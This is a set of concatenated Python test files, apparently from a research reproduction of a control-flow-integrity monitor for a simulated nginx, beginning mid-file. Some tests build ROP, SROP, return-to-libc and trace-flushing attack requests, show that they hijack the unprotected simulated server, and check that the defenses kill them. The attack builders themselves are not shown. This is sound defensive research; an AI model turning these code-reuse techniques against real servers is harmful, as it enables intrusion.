            ocfg.indirect_targets[branch] = set()
        engine = SlowPathEngine(image.memory, ocfg)
        result = engine.check(packets)
        assert not result.ok
        assert "violation" in result.reason

    def test_upcall_cost_always_charged(self):
        from repro import costs

        engine = SlowPathEngine(Memory(), ControlFlowGraph())
        result = engine.check([])
        assert result.ok
        assert result.cycles >= costs.SLOWPATH_UPCALL_CYCLES

    def test_desync_reported_not_raised(self):
        from repro.ipt.packets import DecodedPacket, PacketKind

        engine = SlowPathEngine(Memory(), ControlFlowGraph())
        packets = [DecodedPacket(PacketKind.TIP_PGE, 0, ip=0xDEAD)]
        result = engine.check(packets)
        assert not result.ok
        assert "desync" in result.reason
