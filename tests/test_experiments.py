"""Smoke tests for the experiment harnesses (small configurations).

The benchmark suite runs the full configurations and asserts the paper
shapes; these tests pin the harness *mechanics* — result structure,
table rendering, metric arithmetic — at sizes quick enough for the
unit-test run.
"""

import pytest

from repro.experiments import (
    ablations,
    common,
    fig5a,
    fig5c,
    micro,
    sec2_decode,
    table1,
    table4,
    table5,
)


class TestCommon:
    def test_geomean(self):
        assert common.geomean([1.0, 4.0]) == pytest.approx(2.0)
        assert common.geomean([]) == 0.0
        assert common.geomean([0.0, 1.0]) >= 0.0  # zero-tolerant

    def test_format_rows_alignment(self):
        text = common.format_rows(["a", "bb"], [[1, 2.5], ["x", "y"]])
        lines = text.splitlines()
        assert len(lines) == 4
        assert len(set(len(line) for line in lines)) == 1

    def test_server_requests_per_server(self):
        for name in common.SERVER_NAMES:
            requests = common.server_requests(name, 3)
            assert len(requests) == 3
            assert all(isinstance(r, bytes) and r for r in requests)
        with pytest.raises(KeyError):
            common.server_requests("apache", 1)

    def test_training_corpus_nonempty(self):
        for name in common.SERVER_NAMES:
            assert len(common.training_corpus(name)) >= 3

    def test_run_server_baseline_vs_protected(self):
        requests = common.server_requests("exim", 2)
        baseline = common.run_server("exim", requests, protected=False)
        protected = common.run_server("exim", requests, protected=True)
        assert baseline.stats is None and baseline.overhead == 0.0
        assert protected.stats is not None
        assert protected.overhead > 0
        # The protected process does (almost exactly) the same app work.
        assert protected.app_cycles == pytest.approx(
            baseline.app_cycles, rel=0.01
        )


class TestTable1Harness:
    def test_small_suite(self):
        result = table1.run(suite=("mcf", "lbm"), scale=1)
        assert [row.name for row in result.rows] == ["BTS", "LBR", "IPT"]
        assert set(result.per_benchmark) == {"mcf", "lbm"}
        text = table1.format_table(result)
        assert "BTS" in text and "Filtering" in text


class TestSec2Harness:
    def test_small_suite(self):
        result = sec2_decode.run(suite=("mcf",), scale=1)
        assert "mcf" in result.per_benchmark
        assert result.geomean_x > 10
        assert "geomean" in sec2_decode.format_table(result)


class TestTable4Harness:
    def test_single_server(self):
        result = table4.run(servers=("exim",))
        assert len(result.rows) == 1
        row = result.rows[0]
        assert row.application == "exim"
        assert "exim" in table4.format_table(result)

    def test_cred_ratio_parameter(self):
        full = table4.run(servers=("exim",), cred_ratio=1.0)
        none = table4.run(servers=("exim",), cred_ratio=0.0)
        assert none.rows[0].flowguard_aia >= full.rows[0].flowguard_aia


class TestTable5Harness:
    def test_single_server(self):
        result = table5.run(servers=("vsftpd",))
        assert result.rows[0].memory_kib > 0
        assert "ToPA" in table5.format_table(result)


class TestFig5aHarness:
    def test_single_server(self):
        result = fig5a.run(servers=("exim",), sessions=3)
        row = result.rows[0]
        assert row.overhead == pytest.approx(
            row.trace + row.decode + row.check + row.other, rel=1e-6
        )
        assert "geomean" in fig5a.format_table(result)


class TestFig5cHarness:
    def test_two_benchmarks(self):
        result = fig5c.run(suite=("lbm", "h264ref"), scale=1)
        assert result.row("h264ref").trace_bytes_per_kinsn > \
            result.row("lbm").trace_bytes_per_kinsn
        assert "h264ref" in fig5c.format_table(result)


class TestMicroHarness:
    def test_window_param(self):
        result = micro.run(tip_window=40)
        assert result.tips_checked <= 40
        assert result.slowdown > 1
        assert "slowdown" in micro.format_table(result)


class TestAblationHarness:
    def test_cred_ratio_curve_endpoints(self):
        curve = ablations.sweep_cred_ratio()
        from repro.analysis import aia_fine, aia_itc

        pipeline = common.server_pipeline("nginx")
        assert curve.aia_values[0] == pytest.approx(
            aia_itc(pipeline.itc))
        assert curve.aia_values[-1] == pytest.approx(
            aia_fine(pipeline.ocfg))

    def test_parallel_decode_conservation(self):
        result = ablations.measure_parallel_decode(sessions=3)
        # Critical path can never exceed the serial total.
        assert result.critical_path_cycles <= result.serial_cycles
