"""Tests for the path-sensitive fast-path extension (§7.1.2 future work)."""

import pytest

from repro.itccfg import PathIndex
from repro.monitor import FlowGuardPolicy, Verdict
from repro.osmodel import Kernel
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)


class TestPathIndex:
    def test_gram_extraction(self):
        index = PathIndex(gram=3)
        added = index.observe_sequence([1, 2, 3, 4])
        assert added == 2  # (1,2,3) and (2,3,4)
        assert index.contains((1, 2, 3))
        assert index.contains((2, 3, 4))
        assert not index.contains((1, 3, 4))

    def test_long_window_checked_gramwise(self):
        index = PathIndex(gram=3)
        index.observe_sequence([1, 2, 3, 4, 5])
        assert index.contains((1, 2, 3, 4, 5))
        assert not index.contains((1, 2, 3, 5, 4))

    def test_short_window_suffix_tolerance(self):
        """A window starting mid-path must not false-demote."""
        index = PathIndex(gram=4)
        index.observe_sequence([1, 2, 3, 4])
        assert index.contains((3, 4))  # suffix of a trained gram
        assert index.contains((1, 2))  # prefix of a trained gram
        assert not index.contains((4, 1))

    def test_untrained_grams(self):
        index = PathIndex(gram=2)
        index.observe_sequence([1, 2, 3])
        missing = index.untrained_grams([1, 2, 9, 3])
        assert (2, 9) in missing and (9, 3) in missing
        assert (1, 2) not in missing

    def test_gram_minimum(self):
        with pytest.raises(ValueError):
            PathIndex(gram=1)

    def test_memory_accounting(self):
        index = PathIndex(gram=2)
        index.observe_sequence([1, 2, 3])
        assert index.memory_bytes() == 2 * 8 * 2  # two 2-grams

    def test_idempotent_training(self):
        index = PathIndex(gram=3)
        index.observe_sequence([1, 2, 3, 4])
        assert index.observe_sequence([1, 2, 3, 4]) == 0

    def test_stitched_window_caught_where_edges_pass(self):
        """The security value of path matching: a window whose every
        *pair* (edge) was trained but whose order is novel — exactly
        what an attacker chaining trained NOP-gadget edges produces —
        has untrained grams."""
        index = PathIndex(gram=3)
        index.observe_sequence([1, 2, 3, 4])  # path one
        index.observe_sequence([4, 2, 5])  # path two
        stitched = [1, 2, 5]
        # Every consecutive pair is individually trained...
        assert index.contains((1, 2))
        assert index.contains((2, 5))
        # ...but the stitched 3-gram never occurred.
        assert index.untrained_grams(stitched) == [(1, 2, 5)]


@pytest.fixture(scope="module")
def trained_pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        {"libsim.so": build_libsim()},
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            # Multi-connection session: trains the accept-loop
            # wrap-around grams the runtime windows cross.
            (nginx_request("/index.html"),) * 3,
        ],
        mode="socket",
        kernel_setup=lambda k: k.fs.create("/index.html", b"<html>x</html>"),
    )


class TestPathSensitiveMonitor:
    def _serve(self, pipeline, policy, requests):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        monitor, proc = pipeline.deploy(kernel, policy=policy)
        for request in requests:
            proc.push_connection(request)
        kernel.run(proc)
        return monitor, proc

    def test_pipeline_builds_path_index(self, trained_pipeline):
        assert trained_pipeline.path_index is not None
        assert trained_pipeline.path_index.trained_gram_count > 0

    def test_trained_traffic_stays_fast(self, trained_pipeline):
        policy = FlowGuardPolicy(path_sensitive=True)
        monitor, proc = self._serve(
            trained_pipeline, policy,
            [nginx_request("/index.html")] * 4,
        )
        stats = monitor.stats_for(proc)
        assert monitor.detections == []
        assert stats.slow_path_rate < 0.5  # warm path stays fast

    def test_novel_sequence_demotes_to_slow_path(self, trained_pipeline):
        """A request type never trained produces untrained k-grams: the
        path-sensitive checker must demote where edge checking may not.
        The paper's prediction — "it may introduce larger number of slow
        path checking" — is exactly what we measure."""
        edge_policy = FlowGuardPolicy(path_sensitive=False,
                                      cache_slow_path_negatives=False)
        path_policy = FlowGuardPolicy(path_sensitive=True,
                                      cache_slow_path_negatives=False)
        novel = [nginx_request("/never-trained"),  # 404 path
                 nginx_request("/index.html")]
        edge_monitor, _ = self._serve(trained_pipeline, edge_policy, novel)
        path_monitor, _ = self._serve(trained_pipeline, path_policy, novel)
        assert edge_monitor.detections == []
        assert path_monitor.detections == []  # no false positives!
        edge_stats_slow = edge_monitor._protected  # noqa: SLF001
        edge_slow = sum(
            pp.stats.slow_path_runs for pp in edge_monitor._protected.values()
        )
        path_slow = sum(
            pp.stats.slow_path_runs for pp in path_monitor._protected.values()
        )
        assert path_slow >= edge_slow

    def test_policy_copy_preserves_flag(self):
        policy = FlowGuardPolicy(path_sensitive=True)
        assert policy.with_endpoints(99).path_sensitive is True
