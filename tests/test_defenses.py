"""Tests for the baseline defenses (kBouncer/ROPecker/PathArmor/CFIMon)."""

import pytest

from repro.attacks import build_flushing_request, build_rop_request, run_recon
from repro.defenses import CFIMon, KBouncer, PathArmorLite, ROPecker
from repro.defenses.base import is_call_preceded
from repro.osmodel import Kernel, ProcessState, Sys
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def ocfg():
    pipeline = FlowGuardPipeline.offline(
        "nginx", build_nginx(), LIBS, vdso=build_vdso()
    )
    return pipeline.ocfg


def deploy(defense_cls, request_bytes, ocfg=None, **kw):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    kernel.register_program("nginx", build_nginx(), LIBS, vdso=build_vdso())
    defense = defense_cls(kernel, **kw)
    defense.install()
    proc = kernel.spawn("nginx")
    if ocfg is not None:
        defense.protect(proc, ocfg)
    else:
        defense.protect(proc)
    proc.push_connection(request_bytes)
    kernel.run(proc)
    return kernel, proc, defense


class TestKBouncer:
    def test_benign_traffic_clean(self):
        _, proc, defense = deploy(KBouncer, nginx_request("/index.html"))
        assert defense.detections == []
        assert proc.state is ProcessState.EXITED

    def test_rop_detected_via_call_preceded_check(self, recon):
        _, proc, defense = deploy(KBouncer, build_rop_request(recon))
        assert defense.detections
        assert proc.state is ProcessState.KILLED
        assert "call-preceded" in defense.detections[0].reason

    def test_uninstall(self):
        kernel = Kernel()
        before = dict(kernel.syscall_table)
        defense = KBouncer(kernel)
        defense.install()
        defense.uninstall()
        assert kernel.syscall_table == before

    def test_unprotected_process_passes_through(self):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"x")
        kernel.register_program("nginx", build_nginx(), LIBS,
                                vdso=build_vdso())
        defense = KBouncer(kernel)
        defense.install()
        proc = kernel.spawn("nginx")  # never .protect()ed
        proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        assert defense.detections == []
        assert proc.state is ProcessState.EXITED


class TestIsCallPreceded:
    def test_true_after_direct_call(self):
        from repro.binary import Loader
        from repro.lang import Call, Const, Func, Program, Return, Var

        prog = Program("t")
        prog.add_func(Func("callee", [], [Return(Const(1))]))
        prog.add_func(Func("main", [],
                           [Return(Call("callee", [Const(0)][:0]))]))
        prog.set_entry("main")
        image = Loader().load(prog.build())
        # Find the return site: the instruction after main's call.
        from repro.analysis import build_ocfg, EdgeKind

        cfg = build_ocfg(image)
        call_edge = next(e for e in cfg.edges
                         if e.kind is EdgeKind.DIRECT_CALL
                         and cfg.block_at(e.branch_addr).function == "main")
        return_site = call_edge.branch_addr + 5  # direct call length
        assert is_call_preceded(image.memory, return_site)

    def test_false_at_function_entry(self, recon):
        lib = recon.image.by_name("libsim.so")
        assert not is_call_preceded(
            recon.image.memory, lib.addr_of("setcontext")
        )


class TestROPecker:
    def test_benign_traffic_clean(self):
        _, proc, defense = deploy(ROPecker, nginx_request("/index.html"))
        assert defense.detections == []

    def test_whole_function_gadgets_evade(self, recon):
        """Our chain uses whole library functions, not short gadgets —
        ROPecker's gadget-size heuristic never fires (a genuine
        limitation of that approach, not a bug)."""
        _, proc, defense = deploy(ROPecker, build_rop_request(recon))
        assert defense.detections == []


class TestPathArmorLite:
    def test_benign_traffic_clean(self, ocfg):
        _, proc, defense = deploy(
            PathArmorLite, nginx_request("/index.html"), ocfg=ocfg
        )
        assert defense.detections == []

    def test_rop_detected(self, recon, ocfg):
        _, proc, defense = deploy(
            PathArmorLite, build_rop_request(recon), ocfg=ocfg
        )
        assert defense.detections
        assert "outside" in defense.detections[0].reason


class TestCFIMon:
    def test_benign_traffic_clean(self, ocfg):
        _, proc, defense = deploy(
            CFIMon, nginx_request("/index.html"), ocfg=ocfg
        )
        assert defense.detections == []

    def test_rop_detected_with_full_history(self, recon, ocfg):
        _, proc, defense = deploy(
            CFIMon, build_rop_request(recon), ocfg=ocfg
        )
        assert defense.detections
        assert proc.state is ProcessState.KILLED

    def test_flushing_cannot_evade_full_trace(self, recon, ocfg):
        """BTS keeps everything: flushing is useless against CFIMon."""
        _, proc, defense = deploy(
            CFIMon, build_flushing_request(recon), ocfg=ocfg
        )
        assert defense.detections

    def test_tracing_cost_is_enormous(self, ocfg):
        """The Table 1 trade-off: CFIMon pays BTS's tracing price."""
        kernel, proc, defense = deploy(
            CFIMon, nginx_request("/index.html"), ocfg=ocfg
        )
        assert defense.tracer_cycles > proc.executor.cycles
