"""§7.1.2 security tests: real attacks against the protected nginx.

Each attack is first shown to *work* on an unprotected server (arbitrary
data lands in the attacker's file), then shown to be detected and killed
under FlowGuard — ROP at the ``write`` endpoint, SROP at ``sigreturn``,
as in the paper.
"""

import pytest

from repro.attacks import (
    build_flushing_request,
    build_retlib_request,
    build_rop_request,
    build_srop_request,
    find_gadgets,
    run_recon,
)
from repro.attacks.rop import ATTACK_DATA, ATTACK_PATH
from repro.osmodel import Kernel, ProcessState, SIGKILL, Sys
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        LIBS,
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            nginx_request("/x", "POST", b"small-body"),
            nginx_request("/y", "HEAD"),
        ],
        mode="socket",
    )


def run_unprotected(request_bytes):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    kernel.register_program("nginx", build_nginx(), LIBS, vdso=build_vdso())
    proc = kernel.spawn("nginx")
    proc.push_connection(request_bytes)
    kernel.run(proc)
    return kernel, proc


def run_protected(pipeline, request_bytes):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    monitor, proc = pipeline.deploy(kernel)
    proc.push_connection(request_bytes)
    kernel.run(proc)
    return kernel, proc, monitor


class TestRecon:
    def test_recon_finds_stack_and_fd(self, recon):
        assert recon.body_addr > 0x7F0000000000 or recon.body_addr > 0
        assert recon.next_open_fd >= 5

    def test_gadget_harvest(self, recon):
        gadgets = find_gadgets(recon.image)
        regs, addr = gadgets.best_pop_chain()
        assert len(regs) >= 4  # setcontext's pop r1..r4
        assert gadgets.syscall_ret  # syscall;ret tails exist
        assert "setcontext" in gadgets.functions
        assert "sigreturn" in gadgets.functions


class TestAttacksSucceedUnprotected:
    """The exploits genuinely hijack control flow when no CFI runs."""

    def test_rop_writes_attacker_file(self, recon):
        kernel, proc = run_unprotected(build_rop_request(recon))
        assert kernel.fs.exists(ATTACK_PATH.decode())
        assert kernel.fs.contents(ATTACK_PATH.decode()) == ATTACK_DATA

    def test_srop_writes_attacker_file(self, recon):
        kernel, proc = run_unprotected(build_srop_request(recon))
        assert kernel.fs.exists(ATTACK_PATH.decode())
        assert kernel.fs.contents(ATTACK_PATH.decode()) == ATTACK_DATA

    def test_retlib_emits_attacker_string(self, recon):
        kernel, proc = run_unprotected(build_retlib_request(recon))
        assert ATTACK_PATH in bytes(proc.stdout)

    def test_flushing_writes_attacker_file(self, recon):
        kernel, proc = run_unprotected(build_flushing_request(recon))
        assert kernel.fs.exists(ATTACK_PATH.decode())


class TestFlowGuardStopsAttacks:
    def test_rop_detected_at_write(self, recon, pipeline):
        kernel, proc, monitor = run_protected(
            pipeline, build_rop_request(recon)
        )
        assert monitor.detections, "ROP went undetected"
        detection = monitor.detections[0]
        assert detection.syscall_nr == int(Sys.WRITE)
        assert proc.state is ProcessState.KILLED
        assert proc.killed_by == SIGKILL
        # The chain's open(O_CREAT) precedes the endpoint, but the
        # malicious *write* was blocked: the file stays empty.
        if kernel.fs.exists(ATTACK_PATH.decode()):
            assert kernel.fs.contents(ATTACK_PATH.decode()) == b""


    def test_srop_detected_at_sigreturn(self, recon, pipeline):
        kernel, proc, monitor = run_protected(
            pipeline, build_srop_request(recon)
        )
        assert monitor.detections, "SROP went undetected"
        detection = monitor.detections[0]
        assert detection.syscall_nr == int(Sys.SIGRETURN)
        assert proc.state is ProcessState.KILLED
        # SROP is stopped at sigreturn, before the chain even opens
        # the target file.
        assert not kernel.fs.exists(ATTACK_PATH.decode())

    def test_retlib_detected(self, recon, pipeline):
        kernel, proc, monitor = run_protected(
            pipeline, build_retlib_request(recon)
        )
        assert monitor.detections
        assert proc.state is ProcessState.KILLED
        assert ATTACK_PATH not in bytes(proc.stdout)

    def test_flushing_detected_despite_long_chain(self, recon, pipeline):
        kernel, proc, monitor = run_protected(
            pipeline, build_flushing_request(recon, nop_gadgets=40)
        )
        assert monitor.detections
        assert proc.state is ProcessState.KILLED
        if kernel.fs.exists(ATTACK_PATH.decode()):
            assert kernel.fs.contents(ATTACK_PATH.decode()) == b""

    def test_benign_traffic_still_served_alongside(self, recon, pipeline):
        """A benign request before the attack is served normally."""
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        monitor, proc = pipeline.deploy(kernel)
        good = proc.push_connection(nginx_request("/index.html"))
        proc.push_connection(build_rop_request(recon, conn_fd=5))
        kernel.run(proc)
        assert bytes(good.outbound).startswith(b"HTTP/1.1 200")
        assert monitor.detections
        assert proc.state is ProcessState.KILLED
