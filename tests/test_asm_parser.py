"""Tests for the textual assembly parser."""

import pytest

from repro.cpu import Executor, Machine, Memory
from repro.cpu import PROT_EXEC, PROT_READ, PROT_WRITE
from repro.isa import Op, asm, decode_at
from repro.isa.parser import AsmSyntaxError, parse_asm
from repro.isa.registers import FP, R0, R1, SP


def run_text(text, max_steps=10_000):
    items = parse_asm(text)
    code, symbols = asm(items, base=0x1000)
    mem = Memory()
    mem.map_region(0x1000, max(len(code), 1), PROT_READ | PROT_EXEC)
    mem.write_raw(0x1000, code)
    mem.map_region(0x8000, 0x1000, PROT_READ | PROT_WRITE)
    machine = Machine(mem)
    machine.ip = 0x1000
    machine.set_reg(SP, 0x8FF8)
    cpu = Executor(machine)
    cpu.run(max_steps)
    return cpu


class TestParsing:
    def test_roundtrip_loop(self):
        cpu = run_text(
            """
            ; sum 1..5
                mov r1, 5
                mov r0, 0
            loop:
                add r0, r1
                subi r1, 1
                cmpi r1, 0
                jcc gt, loop
                halt
            """
        )
        assert cpu.machine.reg(R0) == 15

    def test_jcc_shorthand(self):
        cpu = run_text(
            """
                mov r0, 1
                cmpi r0, 1
                jeq good
                mov r0, 0
            good:
                halt
            """
        )
        assert cpu.machine.reg(R0) == 1

    def test_memory_operands(self):
        cpu = run_text(
            """
                mov r1, 0x8100
                mov r0, 77
                store [r1+8], r0
                load r0, [r1 + 8]
                storeb [r1-1], r0
                loadb r1, [r1-1]
                halt
            """
        )
        assert cpu.machine.reg(R0) == 77
        assert cpu.machine.reg(R1) == 77

    def test_call_and_register_forms(self):
        cpu = run_text(
            """
                call fn
                lea r2, fn2
                call r2
                halt
            fn:
                mov r0, 5
                ret
            fn2:
                addi r0, 7
                ret
            """
        )
        assert cpu.machine.reg(R0) == 12

    def test_hex_and_negative_immediates(self):
        cpu = run_text("mov r0, 0x10\n addi r0, -6\n halt")
        assert cpu.machine.reg(R0) == 10

    def test_sp_fp_names(self):
        items = parse_asm("push fp\nmov fp, sp\npop fp\nhalt")
        assert items[0].rs == FP
        assert items[1].rd == FP and items[1].rs == SP

    def test_comments_and_blank_lines(self):
        items = parse_asm(
            "# hash comment\n\n ; semicolon\n nop ; trailing\n"
        )
        assert len(items) == 1
        assert items[0].op is Op.NOP

    def test_multiple_labels_one_line(self):
        items = parse_asm("a: b: halt")
        from repro.isa import Label

        assert items[0] == Label("a")
        assert items[1] == Label("b")

    def test_equivalence_with_programmatic(self):
        from repro.isa import A, Cond, Label

        text_items = parse_asm("x:\n jcc lt, x\n jmp x\n")
        prog_items = [Label("x"), A.jcc(Cond.LT, "x"), A.jmp("x")]
        assert asm(text_items)[0] == asm(prog_items)[0]


class TestErrors:
    @pytest.mark.parametrize(
        "bad",
        [
            "frobnicate r0",
            "mov r99, 1",
            "mov r0",
            "load r0, r1",
            "jcc sideways, x",
            "store [qq+4], r0",
            "addi r0, twelve",
            "1bad: nop",
        ],
    )
    def test_rejections(self, bad):
        with pytest.raises(AsmSyntaxError):
            parse_asm(bad)

    def test_error_carries_line_number(self):
        with pytest.raises(AsmSyntaxError) as exc:
            parse_asm("nop\nnop\nbogus r0\n")
        assert exc.value.line_no == 3
