"""Tests for the AFL-like fuzzer and the credit-training phase."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.fuzz import (
    CoverageMap,
    CoverageTracker,
    Fuzzer,
    FuzzQueue,
    MutationEngine,
    TargetRunner,
    train_credits,
)
from repro.fuzz.coverage import _bucket
from repro.fuzz.queue import CorpusEntry
from repro.cpu import BranchEvent, CoFIKind
from repro.itccfg.credits import CreditLabeledITC
from repro.lang import (
    AddrOf,
    Call,
    Const,
    Func,
    If,
    Let,
    LocalArray,
    Load,
    Program,
    Rel,
    Return,
    SyscallExpr,
    Var,
)
from repro.osmodel.syscalls import Sys


def branchy_target():
    """A program whose path depends on its first stdin byte."""
    prog = Program("target")
    prog.add_func(
        Func(
            "main",
            [],
            [
                LocalArray("buf", 8),
                Let("n", SyscallExpr(int(Sys.READ),
                                     [Const(0), AddrOf("buf"), Const(8)])),
                If(Rel("<=", Var("n"), Const(0)), [Return(Const(0))]),
                Let("c", Load(AddrOf("buf"), byte=True)),
                If(Rel("==", Var("c"), Const(ord("A"))),
                   [Return(Const(1))]),
                If(Rel("==", Var("c"), Const(ord("B"))),
                   [Return(Const(2))]),
                If(Rel(">", Var("c"), Const(127)),
                   [Return(Const(3))]),
                Return(Const(4)),
            ],
        )
    )
    prog.set_entry("main")
    return prog.build()


class TestCoverage:
    def test_bucketing_monotone_classes(self):
        assert _bucket(1) == 1
        assert _bucket(3) == 3
        assert _bucket(5) == 4
        assert _bucket(10) == 8
        assert _bucket(500) == 64

    def test_new_edges_detected(self):
        cmap = CoverageMap()
        assert cmap.merge({1: 1})
        assert not cmap.merge({1: 1})  # same edge, same bucket
        assert cmap.merge({1: 10})  # same edge, new hit-count bucket
        assert cmap.merge({2: 1})  # new edge

    def test_tracker_hashes_transitions(self):
        tracker = CoverageTracker()
        tracker.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0x10, 0x20))
        tracker.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0x20, 0x30))
        assert len(tracker.hits) == 2
        tracker.reset()
        assert tracker.hits == {}

    def test_order_sensitivity(self):
        """Edge coverage distinguishes A->B from B->A."""
        t1 = CoverageTracker()
        t1.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0, 0xA))
        t1.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0, 0xB))
        t2 = CoverageTracker()
        t2.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0, 0xB))
        t2.on_branch(BranchEvent(CoFIKind.DIRECT_JMP, 0, 0xA))
        assert set(t1.hits) != set(t2.hits)


class TestMutators:
    def test_bitflips_differ_by_one_bit(self):
        engine = MutationEngine()
        data = b"\x00\x00"
        for mutant in engine.bitflips(data):
            assert len(mutant) == 2
            diff = int.from_bytes(mutant, "big")
            assert bin(diff).count("1") == 1

    def test_deterministic_stages_deterministic(self):
        a = list(MutationEngine(seed=1).mutations(b"seed", havoc_rounds=4))
        b = list(MutationEngine(seed=1).mutations(b"seed", havoc_rounds=4))
        assert a == b

    def test_havoc_varies_with_seed(self):
        a = list(MutationEngine(seed=1).havoc(b"seed", rounds=8))
        b = list(MutationEngine(seed=2).havoc(b"seed", rounds=8))
        assert a != b

    def test_splice(self):
        engine = MutationEngine(seed=3)
        out = engine.splice(b"AAAA", b"BBBB")
        assert out
        assert set(out) <= set(b"AB")

    def test_splice_empty(self):
        engine = MutationEngine()
        assert engine.splice(b"", b"XY") == b"XY"

    @given(st.binary(min_size=1, max_size=32))
    @settings(max_examples=25, deadline=None)
    def test_havoc_outputs_nonempty(self, data):
        engine = MutationEngine(seed=9)
        for mutant in engine.havoc(data, rounds=4):
            assert isinstance(mutant, bytes)
            assert len(mutant) >= 1


class TestQueue:
    def test_fifo_unfuzzed(self):
        queue = FuzzQueue()
        queue.push(CorpusEntry(b"a"))
        queue.push(CorpusEntry(b"b"))
        first = queue.next_unfuzzed()
        assert first.data == b"a"
        first.fuzzed = True
        assert queue.next_unfuzzed().data == b"b"

    def test_cycle_wraps(self):
        queue = FuzzQueue()
        queue.push(CorpusEntry(b"a"))
        queue.push(CorpusEntry(b"b"))
        seen = [queue.cycle().data for _ in range(4)]
        assert seen == [b"a", b"b", b"a", b"b"]

    def test_corpus(self):
        queue = FuzzQueue()
        queue.push(CorpusEntry(b"x"))
        assert queue.corpus() == [b"x"]


class TestFuzzer:
    def test_discovers_distinct_paths(self):
        runner = TargetRunner("target", branchy_target(),
                              max_steps=50_000)
        fuzzer = Fuzzer(runner, [b"....."])
        queue = fuzzer.run(max_executions=300, havoc_rounds=8)
        # The seed plus at least one mutated input reaching a new branch.
        assert len(queue) >= 2
        assert fuzzer.stats.executions <= 300

    def test_crash_counting(self):
        # A target that faults on input 'X...': wild store.
        from repro.lang import Store

        prog = Program("crashy")
        prog.add_func(
            Func(
                "main",
                [],
                [
                    LocalArray("buf", 8),
                    SyscallExpr(int(Sys.READ),
                                [Const(0), AddrOf("buf"), Const(8)]),
                    If(
                        Rel("==", Load(AddrOf("buf"), byte=True),
                            Const(ord("X"))),
                        [Store(Const(0xDEAD0000), Const(1))],
                    ),
                    Return(Const(0)),
                ],
            )
        )
        prog.set_entry("main")
        runner = TargetRunner("crashy", prog.build(), max_steps=50_000)
        fuzzer = Fuzzer(runner, [b"X"])
        fuzzer.run(max_executions=5, havoc_rounds=2)
        assert fuzzer.stats.crashes >= 1

    def test_runner_mode_validation(self):
        with pytest.raises(ValueError):
            TargetRunner("t", branchy_target(), mode="pipe")


class TestTraining:
    def test_training_is_idempotent(self):
        """Replaying the same corpus twice labels the same edges."""
        from repro.analysis import build_ocfg
        from repro.binary import Loader
        from repro.itccfg import build_itccfg

        exe = branchy_target()
        image = Loader().load(exe)
        itc = build_itccfg(build_ocfg(image))
        labeled_a = CreditLabeledITC(itc=itc)
        labeled_b = CreditLabeledITC(itc=itc)
        corpus = [b"A", b"B", b"zz"]
        train_credits(labeled_a, "t", exe, corpus)
        train_credits(labeled_b, "t", exe, corpus)
        train_credits(labeled_b, "t", exe, corpus)  # again
        assert set(labeled_a.high_credit_edges()) == set(
            labeled_b.high_credit_edges()
        )

    def test_report_ratio_monotone(self):
        from repro.analysis import build_ocfg
        from repro.binary import Loader
        from repro.itccfg import build_itccfg

        exe = branchy_target()
        image = Loader().load(exe)
        itc = build_itccfg(build_ocfg(image))
        labeled = CreditLabeledITC(itc=itc)
        report = train_credits(labeled, "t", exe, [b"A", b"B", b"\xff"])
        assert report.inputs_replayed == 3
        history = report.ratio_history
        assert all(b >= a for a, b in zip(history, history[1:]))
        assert report.final_ratio == labeled.trained_ratio()
