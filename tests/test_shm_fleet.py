"""Fleet at 100x: shared-memory segments, process-pool decode,
work-stealing scheduling, and the sharded flow index.

Every test here defends one leg of the scale tentpole:

- ``repro.ipt.shm`` — descriptor round-trips, refcounted leak
  accounting, and the graceful heap fallback (results identical, zero
  live blocks either way; only the zero-copy property is lost);
- ``ProcessPoolSliceDecoder`` — bit-identical to the threaded decoder
  (rolling column digest), leak-free, and observationally invisible to
  the fleet (same schedule digest, accounting, and dead-letter books
  under injected worker crashes);
- the segment-tree dispatch index — selection and full-schedule parity
  against the linear-scan oracle it replaced;
- ``WorkStealingPool`` — steals under backlog, exact ledger either way;
- ``ShardedFlowSearchIndex`` — verdicts, charges, memo telemetry, and
  promote routing identical to the flat index;
- open-loop tenant arrivals — the v4 ``fairness`` entries and the
  service-level ratio spread.
"""

import pickle
import random

import pytest

from repro.experiments.common import (
    seed_server_fs,
    server_pipeline,
    server_requests,
)
from repro.experiments.fleet_scaling import build_fleet
from repro.fleet.service import FleetConfig, FleetService
from repro.fleet.workers import (
    CheckTask,
    SimulatedWorkerPool,
    ProcessPoolSliceDecoder,
    ThreadedSliceDecoder,
    WorkStealingPool,
    make_pool,
    make_slice_decoder,
)
from repro.ipt import shm
from repro.ipt.columnar import columnar_scan
from repro.itccfg import (
    CreditLabeledITC,
    FlowSearchIndex,
    ITCCFG,
    ITCEdge,
    ShardedFlowSearchIndex,
    build_flow_index,
)
from repro.itccfg.shardindex import MODULE_SHIFT
from repro.resilience import FaultPlan, FaultSite, RetryPolicy
from repro.service import builtin_serve_config, run_service

from tests.test_columnar import build_stream


